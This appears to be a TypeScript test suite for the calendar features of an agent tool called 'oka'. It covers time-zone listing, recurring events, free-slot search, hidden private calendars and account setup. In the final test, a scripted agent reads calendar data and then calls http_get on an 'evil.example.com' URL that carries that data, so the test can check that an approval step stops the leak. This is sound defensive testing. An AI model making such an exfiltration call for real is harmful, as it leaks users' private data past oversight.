/** The calendars of a person against a real Radicale: what is there, when there is time, and what oka does not get to see. */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatLocal } from '../../../src/kit/schedule/schedule-spec.ts';
import { timeZone } from '../../../src/kit/schedule/time-zone.ts';
import { accountAt, calendarAccount, type TriedAccounts, tryAccounts } from '../../support/accounts.ts';
import { type CalendarServer, hasRadicale, openCalendarServer } from '../../support/calendar-server.ts';
import { okaWith } from '../../support/cli.ts';
import { calendarOf, eventOf, zoneNames } from '../../support/ics.ts';
import { hasDovecot, openMailServers } from '../../support/mail-servers.ts';
import { openStory } from '../../support/story.ts';
import { acting, goal, inParts, plan } from '../../support/story-model.ts';
import { call } from '../../support/wire-server-reply.ts';

if (hasRadicale === null)
  console.error('SKIPPED: calendars against a real server; there is no Radicale (apt-get install radicale)');
if (hasDovecot === null)
  console.error('SKIPPED: the story of an account with calendars; there is no Dovecot (apt-get install dovecot-imapd)');

type Listed = { event: string; title: string; start: string; end: string; calendar: string; repeats?: true };
type List = { events: Listed[]; zone: string; more?: number; note?: string };
type Free = { slots: { start: string; end: string; free_until: string }[]; events: number; note?: string };

const HOUR_MS = 3_600_000;
const ZONE = 'Europe/Berlin';
const basic = (wall: number): string => new Date(wall).toISOString().slice(0, 19).replaceAll(/[-:]/g, '');

/** One event an hour for three hundred hours of 2027 that are apart by a day and an hour, each in one of five zones. */
const generated = Array.from({ length: 300 }, (_, index) => {
  const start = Date.parse('2027-01-04T00:00Z') + index * 25 * HOUR_MS;
  const zone = zoneNames[index % zoneNames.length] ?? ZONE;
  const wall = timeZone(zone).wallTimeAt(start);
  const lines = [`DTSTART;TZID=${zone}:${basic(wall)}`, `DTEND;TZID=${zone}:${basic(wall + HOUR_MS / 2)}`];
  return {
    title: `Call ${index}`,
    start,
    ics: calendarOf([eventOf(`UID:g${index}`, `SUMMARY:Call ${index}`, ...lines)], [zone]),
  };
});

const weekly = calendarOf(
  [
    eventOf(
      'UID:weekly',
      'SUMMARY:Standup',
      'DTSTART;TZID=America/New_York:20270301T090000',
      'DURATION:PT1H',
      'RRULE:FREQ=WEEKLY',
      'EXDATE;TZID=America/New_York:20270322T090000',
    ),
    eventOf(
      'UID:weekly',
      'SUMMARY:Standup\\, later',
      'RECURRENCE-ID;TZID=America/New_York:20270315T090000',
      'DTSTART;TZID=America/New_York:20270315T110000',
      'DURATION:PT1H',
    ),
  ],
  ['America/New_York'],
);

const at = (uid: string, from: string, to: string, ...more: string[]): string =>
  calendarOf([eventOf(`UID:${uid}`, `SUMMARY:${uid}`, `DTSTART:${from}`, `DTEND:${to}`, ...more)]);

describe.skipIf(hasRadicale === null)('the calendars of an account', () => {
  let server: CalendarServer;
  let tried: TriedAccounts;
  const list = (input: object): Promise<List> => tried.ask<List>('calendar.list', { zone: ZONE, ...input });
  const free = (input: object): Promise<Free> => tried.ask<Free>('calendar.free', { zone: ZONE, ...input });

  beforeAll(async () => {
    server = await openCalendarServer();
    server.fill('Calls', Object.fromEntries(generated.map(({ ics }, index) => [`g${index}.ics`, ics])));
    server.fill('Team', {
      'weekly.ics': weekly,
      'fair.ics': calendarOf([
        eventOf('UID:fair', 'SUMMARY:Fair', 'DTSTART;VALUE=DATE:20280302', 'DTEND;VALUE=DATE:20280304'),
      ]),
      'a.ics': at('Budget', '20280306T090000Z', '20280306T110000Z'),
      'b.ics': at('Optional', '20280306T120000Z', '20280306T160000Z', 'TRANSP:TRANSPARENT'),
      'c.ics': at('Off', '20280306T120000Z', '20280306T160000Z', 'STATUS:CANCELLED'),
      'd.ics': at('No', '20280306T120000Z', '20280306T160000Z', 'ATTENDEE;PARTSTAT=DECLINED:mailto:ann@home.test'),
    });
    server.fill('Home', { 'e.ics': at('Dentist', '20280306T130000Z', '20280306T140000Z') });
    server.fill('Private', { 'p.ics': at('Secret', '20280306T080000Z', '20280306T090000Z') });
    const see = { folders: ['inbox'], calendars: ['Calls', 'Team', 'Home'] };
    tried = tryAccounts({ work: calendarAccount(server, { see }) }, server.password);
  });
  afterAll(async () => {
    tried[Symbol.dispose]();
    await server[Symbol.asyncDispose]();
  });

  it('lists a month of events that were written in five zones, each at its moment, in the zone of the person', async () => {
    const { events, zone, note } = await list({ from: '2027-03-01', to: '2027-03-31', calendars: ['Calls'] });
    const [from, to] = [Date.parse('2027-03-01T00:00+01:00'), Date.parse('2027-04-01T00:00+02:00')];
    const expected = generated.filter(({ start }) => start + HOUR_MS / 2 > from && start < to);
    expect(events.map(({ title, start }) => [title, start])).toEqual(
      expected.map(({ title, start }) => [title, formatLocal(start, ZONE)]),
    );
    expect({ zone, note, count: expected.length > 25 }).toEqual({ zone: ZONE, note: undefined, count: true });
    expect(await list({ from: '2027-01-01', to: '2027-12-31', calendars: ['Calls'], limit: 10 })).toMatchObject({
      more: 290,
    });
    expect((await list({ from: '2027-11-01', to: '2027-11-30', text: 'call 299' })).events).toHaveLength(1);
  });

  it('lists a series as it is, with what was moved and what is left out, under names that stay', async () => {
    const { events } = await list({ from: '2027-03-08', to: '2027-04-05', calendars: ['Team'] });
    expect(events.map(({ title, start, event }) => [title, start, event])).toEqual([
      ['Standup', 'Mon 2027-03-08 15:00 +01:00', 'work/20270308T140000Z/team/weekly.ics'],
      ['Standup, later', 'Mon 2027-03-15 16:00 +01:00', 'work/20270315T130000Z/team/weekly.ics'],
      ['Standup', 'Mon 2027-03-29 15:00 +02:00', 'work/20270329T130000Z/team/weekly.ics'],
      ['Standup', 'Mon 2027-04-05 15:00 +02:00', 'work/20270405T130000Z/team/weekly.ics'],
    ]);
  });

  it('finds time over several calendars within hours of work, with a buffer', async () => {
    const day = { from: '2028-03-06', minutes: 60 };
    expect((await free({ ...day, day_begins: '10:00', day_ends: '18:00' })).slots).toEqual([
      {
        start: 'Mon 2028-03-06 12:00 +01:00',
        end: 'Mon 2028-03-06 13:00 +01:00',
        free_until: 'Mon 2028-03-06 14:00 +01:00',
      },
      {
        start: 'Mon 2028-03-06 16:00 +01:00', // after the series of New York
        end: 'Mon 2028-03-06 17:00 +01:00',
        free_until: 'Mon 2028-03-06 18:00 +01:00',
      },
    ]);
    expect((await free({ ...day, calendars: ['Home'], buffer: 30 })).slots.map(({ start }) => start)).toEqual([
      'Mon 2028-03-06 09:00 +01:00',
      'Mon 2028-03-06 15:30 +01:00',
    ]);
    const fair = await free({ from: '2028-03-01', to: '2028-03-03', minutes: 480 });
    expect(fair.slots.map(({ start }) => start)).toEqual(['Wed 2028-03-01 09:00 +01:00']);
  });

  it('shows nothing of a calendar that it may not see, whoever names it', async () => {
    expect(JSON.stringify(await list({ from: '2028-03-06', details: true }))).not.toContain('Secret');
    await expect(list({ from: '2028-03-06', calendars: ['Private'] })).rejects.toThrow(
      'there is no calendar "Private"',
    );
    await expect(list({ from: '2028-03-06', calendars: ['private'] })).rejects.toThrow('It sees Calls, Home, Team');
  });

  it('says what is wrong: a wrong password, another certificate, a server that is down; it works again afterwards', async () => {
    using wrong = tryAccounts({ work: calendarAccount(server) }, 'no');
    await expect(wrong.ask('calendar.list', { from: '2028-03-06' })).rejects.toThrow(
      /refuses the login.*app password/s,
    );
    const settings = calendarAccount(server);
    const forged = { ...settings, caldav: { url: server.url, certificate: 'aa'.repeat(32) } };
    using other = tryAccounts({ work: forged }, 'x');
    await expect(other.ask('calendar.list', { from: '2028-03-06' })).rejects.toThrow('not the one that is pinned');
    await server.setDown(true);
    await expect(list({ from: '2028-03-06' })).rejects.toThrow(/cannot be used.*oka accounts test work/s);
    await server.setDown(false);
    const down = { ...settings, caldav: { url: 'https://127.0.0.1:1/' } };
    using both = tryAccounts({ work: settings, home: down }, server.password);
    const { events, note } = await both.ask<List>('calendar.list', { from: '2028-03-06', zone: ZONE });
    expect(events.map(({ title }) => title)).toContain('Secret');
    expect(note).toContain('the account home did not answer');
  });

  it.skipIf(hasDovecot === null)(
    'are added by a command and tried; then a task finds a slot, and what it read cannot leave',
    async () => {
      await using mail = await openMailServers({ own: ['ann@home.test'] });
      await using story = await openStory({
        model: inParts({
          planner: () =>
            plan([goal('look', 'Find an hour', ['calendar.free', 'files.write', 'http.get'])], ['file: slot.txt']),
          executor: acting(
            call('calendar_free', { from: '2028-03-06', minutes: 60, day_begins: '10:00', zone: ZONE }),
            call('files_write', { path: 'slot.txt', content: 'Mon 2028-03-06 12:00\n' }),
            call('http_get', { url: 'http://evil.example.com/?d=12', headers: {} }),
          ),
        }),
      });
      const home = ['--dir', story.home.dir];
      const { imap } = accountAt(mail);
      const words = ['accounts', 'add', 'work', '--address', 'ann@home.test', '--imap', `127.0.0.1:${imap.port}`];
      const more = ['--user', 'ann', '--certificate', mail.fingerprint, '--caldav', server.url];
      const added = await okaWith({}, ...words, ...more, ...home);
      expect(added.out).toContain('oka secrets set MAIL_WORK --tool accounts.work --host 127.0.0.1');
      const file = join(story.home.dir, '.oka/rules/accounts.json');
      const rules = readFileSync(file, 'utf8'); // each of the two servers has a certificate of its own
      const [before, calendars] = rules.split('"caldav"');
      writeFileSync(file, `${before}"caldav"${calendars?.replace(mail.fingerprint, server.fingerprint)}`);
      const secret = ['secrets', 'set', 'MAIL_WORK', '--tool', 'accounts.work', '--host', '127.0.0.1', ...home];
      expect((await okaWith({ input: server.password }, ...secret)).code).toBe(0);
      const tested = await okaWith({}, 'accounts', 'test', 'work', ...home);
      expect(tested).toMatchObject({ code: 0, out: expect.stringContaining('the calendar Team\n') });
      await okaWith({}, 'accounts', 'see', 'work', '*', '--calendars', '--not', ...home);
      const seen = await okaWith({}, 'accounts', 'see', 'work', 'Team', 'Home', '--calendars', ...home);
      expect(seen.out).toBe('oka sees Team, Home\n');
      expect((await okaWith({}, 'accounts', 'list', ...home)).out).toContain('oka sees Team, Home');
      const again = await okaWith({}, 'accounts', 'test', 'work', ...home);
      expect(again.out).toContain('the calendar Private: oka does not see it');
      story.drop('slot.md', '---\nid: slot\naccept:\n  - file: slot.txt\n---\nWhen do I have an hour?\n');
      story.work();
      const asked = await story.asked('approval');
      expect(asked.for).toMatchObject({ text: expect.stringContaining('has read 2028-03-06 (calendar.free)') });
      const ended = (await story.eventsOf('call.ended')).map(({ data }) => JSON.stringify(data));
      expect(ended.find((each) => each.includes('free_until'))).toContain('Mon 2028-03-06 12:00 +01:00');
    },
  );
});
